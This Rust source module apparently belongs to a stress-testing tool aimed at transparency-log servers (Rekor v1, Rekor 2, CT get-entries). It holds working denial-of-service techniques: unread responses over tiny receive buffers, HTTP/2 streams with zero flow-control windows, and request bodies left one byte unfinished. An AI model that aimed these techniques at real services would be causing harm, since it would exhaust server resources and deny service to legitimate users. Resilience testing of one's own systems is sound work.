//! Levers that make the server hold bytes: answers that nobody reads, bodies that never end.

use anyhow::Result;
use bytes::Bytes;
use http_body_util::Empty;
use hyper::{Request, client::conn::http2};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::{
    io::AsyncWriteExt,
    net::{TcpSocket, TcpStream},
};

use super::{Held, Target};

/// Most that the peer's system takes for it: what it does not read stays with the server.
const RECEIVE_BUFFER: u32 = 4096;

/// A bundle of 256 long entries.
const BUNDLE: &str = "/tile/entries/001";

/// Asks for a bundle on each of `count` connections and reads nothing.
pub(super) async fn unread_bundles(at: Target, count: usize) -> Result<Held> {
    unread(&at.rekor2, BUNDLE, count).await
}

/// The same for `get-entries`.
pub(super) async fn unread_entries(at: Target, count: usize) -> Result<Held> {
    unread(&at.ct, "/ct/v1/get-entries?start=0&end=255", count).await
}

async fn unread(authority: &str, path: &str, count: usize) -> Result<Held> {
    let mut held = Held::new();
    for _ in 0..count {
        let request = format!("GET {path} HTTP/1.1\r\nhost: {authority}\r\n\r\n");
        let mut stream = deaf(authority).await?;
        stream.write_all(request.as_bytes()).await?;
        held.spawn(hold(stream));
    }
    Ok(held)
}

/// `streams` requests on each of `connections` of HTTP/2 with a window of 0: not one byte of an answer may be sent.
pub(super) async fn closed_windows(at: Target, connections: usize, streams: usize) -> Result<Held> {
    let mut held = Held::new();
    for _ in 0..connections {
        let stream = TcpStream::connect(&at.rekor2).await?;
        let (sender, connection) = http2::Builder::new(TokioExecutor::new())
            .initial_stream_window_size(0)
            .handshake(TokioIo::new(stream))
            .await?;
        held.spawn(async move {
            let _ = connection.await;
        });
        for _ in 0..streams {
            let mut sender = sender.clone();
            let request = Request::get(format!("http://{}{BUNDLE}", at.rekor2));
            let request = request.body(Empty::<Bytes>::new())?;
            held.spawn(async move {
                let answer = sender.send_request(request).await;
                std::future::pending::<()>().await;
                drop(answer);
            });
        }
    }
    Ok(held)
}

/// Sends all but the last byte of `count` bodies to Rekor v1, and begins again when one is given up.
pub(super) async fn unfinished(at: Target, count: usize, length: usize) -> Result<Held> {
    let head = format!(
        "POST /api/v1/log/entries HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\n\
         content-length: {length}\r\n\r\n",
        at.rekor1
    );
    let mut bytes = head.into_bytes();
    bytes.resize(bytes.len() + length - 1, b' ');
    super::peers::again_and_again(&at.rekor1, count, Bytes::from(bytes)).await
}

async fn deaf(authority: &str) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(RECEIVE_BUFFER)?;
    let address = tokio::net::lookup_host(authority).await?.find(std::net::SocketAddr::is_ipv4);
    Ok(socket.connect(address.unwrap_or(([127, 0, 0, 1], 0).into())).await?)
}

async fn hold(stream: TcpStream) {
    std::future::pending::<()>().await;
    drop(stream);
}
